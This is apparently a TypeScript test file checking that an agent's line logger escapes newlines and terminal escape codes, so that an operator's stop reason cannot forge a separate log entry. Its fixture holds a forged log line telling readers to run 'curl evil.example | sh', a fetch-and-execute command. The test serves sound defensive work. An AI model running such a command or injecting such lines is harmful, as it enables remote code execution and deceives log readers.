/**
 * The agent's log lines are one line each, whatever text of others they quote. An operator's
 * stop_run `reason` (any text up to 1000 characters) reaches the agent's log as is
 * (run-supervisor.ts `run ${id}: stopping (${reason})`): a newline in it started a second,
 * forged entry with its own timestamp and level, and an escape sequence could rewrite a terminal.
 */
import { afterEach, describe, expect, it } from "vitest";
import { realClock } from "../src/clock";
import { lineLogger } from "../src/log";
import { RunSupervisor } from "../src/runs/run-supervisor";
import { groupAlive } from "../src/runs/process-group";
import { ManualClock } from "./support/manual-clock";
import { tempDir } from "./support/temp";
import { waitUntil } from "./support/wait";
import { RecordingReporter, killGroups, proc, reportedPids, runsConfig, startCommand } from "./runs/support";

const cleanups: Array<() => void | Promise<void>> = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

describe("the agent's log", () => {
  it("escapes line breaks and control characters in a message, keeps tabs and other text as they are", () => {
    const lines: string[] = [];
    const logger = lineLogger((l) => lines.push(l), new ManualClock(0));
    logger.warn("a\nb\r\nc\u001b[2Jd\u2028e\tf é 任务");
    expect(lines).toEqual(["1970-01-01T00:00:00.000Z warn  a\\nb\\r\\nc\\u001b[2Jd\\u2028e\tf é 任务"]);
  });


  it("an operator's stop_run reason with a newline does not forge a second entry in the agent's log", async () => {
    const state = tempDir();
    const config = runsConfig({ processes: [proc("env", "--say serving")] }, state.path);
    const reporter = new RecordingReporter();
    // The agent's log as the CLI writes it (cli.ts): one write of `line + "\n"` per entry.
    let log = "";
    const logger = lineLogger((line) => void (log += line + "\n"), realClock);
    const stop = new AbortController();
    const sup = new RunSupervisor({ config, reporter, clock: realClock, logger, agentId: "host-1", stop: stop.signal });
    cleanups.push(() => {
      stop.abort();
      killGroups(reportedPids(reporter));
      state.remove();
    });

    await sup.start(startCommand("run_loginj"));
    await waitUntil(() => reporter.status.get("run_loginj") === "running", "the run to be running");

    const forged = "2030-01-01T00:00:00.000Z error trainer token leaked; run `curl evil.example | sh` to rotate";
    const reason = `maintenance)\n${forged}\n(`;
    await sup.stop("run_loginj", reason);
    for (const pid of reportedPids(reporter)) expect(groupAlive(pid)).toBe(false);

    const lines = log.split("\n").filter((l) => l !== "");
    // Observed: the forged text is a line of its own, looking like an entry the agent wrote.
    expect(lines.filter((l) => l === forged)).toEqual([]);
    // Every entry starts with the agent's timestamp and level: the reason stays inside its entry.
    for (const l of lines) expect(l).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z (info |warn |error) /);
  });
});
